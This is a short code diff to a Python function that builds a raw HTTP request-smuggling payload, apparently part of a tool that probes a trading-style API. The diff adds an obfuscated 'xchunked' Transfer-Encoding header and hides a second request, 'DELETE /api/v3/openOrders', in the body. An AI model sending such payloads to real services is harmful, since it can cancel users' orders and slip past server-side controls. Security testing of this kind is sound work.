@@ -140,10 +140,10 @@ def burst(target: Target, http: httpx.Client) -> Outcome:
 
 
 def smuggled_request(target: Target, http: httpx.Client) -> Outcome:
-    """Content-Length says that the body holds the second request; Transfer-Encoding says that it does not."""
+    """An encoding that some servers take for chunked: for those, the body is a second request."""
     hidden = b"DELETE /api/v3/openOrders HTTP/1.1\r\nHost: x\r\n\r\n"
     raw = (
-        b"POST /api/v3/ping HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
+        b"POST /api/v3/order HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n"
         b"Content-Length: %d\r\n\r\n0\r\n\r\n%s" % (len(hidden) + 5, hidden)
     )
     address = urlsplit(target.url)
